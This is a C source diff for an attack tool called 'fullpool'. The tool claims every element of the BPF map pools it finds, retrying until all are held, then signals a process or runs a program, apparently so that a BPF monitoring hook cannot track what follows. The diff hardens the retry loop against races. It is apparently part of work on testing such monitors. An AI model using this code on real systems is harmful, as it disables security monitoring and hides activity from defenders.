@@ -56,11 +56,13 @@ static void find(void)
 }
 
 /*
- * Owner is the first word of a piece; 0 is nobody. Pieces that somebody else has are left alone. Returns how many are not taken.
+ * Owner is the first word of a piece; 0 is nobody. Pieces that somebody else has are left alone. One that was taken in the
+ * moment in which a hook took it too is free again as soon as that hook is done: so what was taken before is looked at
+ * again. Returns how many pieces were not the caller's when the call began.
  */
 static int give_to(uint64_t owner)
 {
-	int left = 0;
+	int missing = 0;
 
 	for (struct pool *pool = s_pools; pool < s_pools + s_count; pool++) {
 		uint64_t *piece = calloc(1, pool->bytes);
@@ -68,17 +70,35 @@ static int give_to(uint64_t owner)
 		for (uint32_t i = 0; i < pool->pieces; i++) {
 			union bpf_attr element = {.map_fd = pool->fd, .key = (uintptr_t)&i, .value = (uintptr_t)piece};
 
-			if (owner ? pool->taken[i] || bpf(BPF_MAP_LOOKUP_ELEM, &element) || *piece : !pool->taken[i]) {
-				left += !pool->taken[i];
+			if (owner) {
+				answer_need("a piece", bpf(BPF_MAP_LOOKUP_ELEM, &element));
+				if (pool->taken[i] && *piece == owner)
+					continue;
+				missing++;
+				pool->taken[i] = 0;
+				if (*piece)
+					continue;
+			} else if (!pool->taken[i]) {
 				continue;
 			}
 			*piece = owner;
 			pool->taken[i] = !bpf(BPF_MAP_UPDATE_ELEM, &element) && owner;
-			left += !pool->taken[i];
 		}
 		free(piece);
 	}
-	return left;
+	return missing;
+}
+
+/* A hook that runs at this moment has a piece and gives it back at once: taken is what stays taken. */
+static void take_all(void)
+{
+	int tries = 0;
+
+	while (give_to(1)) {
+		errno = EAGAIN;
+		answer_need("every piece of the pool", ++tries < 1000 ? 0 : -1);
+		usleep(1000);
+	}
 }
 
 int main(int argc, char **argv)
@@ -89,9 +109,7 @@ int main(int argc, char **argv)
 	if (argc != 3 || (strcmp(argv[1], "signal") && strcmp(argv[1], "exec")))
 		attack_usage("fullpool signal PID | exec PROGRAM");
 	find();
-	/* A hook that runs at this moment has a piece, and gives it back at once. */
-	for (int tries = 0; give_to(1) && tries < 1000; tries++)
-		usleep(1000);
+	take_all();
 	if (!strcmp(argv[1], "signal")) {
 		result = kill(atoi(argv[2]), SIGURG);
 	} else {
